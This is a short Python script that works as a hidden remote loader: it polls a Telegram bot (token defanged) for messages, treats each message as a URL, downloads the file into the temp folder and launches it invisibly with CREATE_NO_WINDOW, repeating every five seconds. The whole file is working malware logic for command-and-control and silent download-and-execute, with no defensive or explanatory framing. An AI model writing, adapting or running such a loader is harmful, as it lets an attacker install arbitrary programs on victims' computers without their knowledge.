import os
import subprocess
import tempfile
import time

import requests

API = "https://api.telegram.org/bot0000000000:defanged"


def main():
    offset = 0
    while True:
        updates = requests.get(API + "/getUpdates", params={"offset": offset}).json().get("result", [])
        for update in updates:
            offset = update["update_id"] + 1
            url = update.get("message", {}).get("text", "")
            path = os.path.join(tempfile.gettempdir(), os.path.basename(url) or "x.exe")
            with open(path, "wb") as handle:
                handle.write(requests.get(url).content)
            subprocess.Popen([path], creationflags=subprocess.CREATE_NO_WINDOW)
        time.sleep(5)
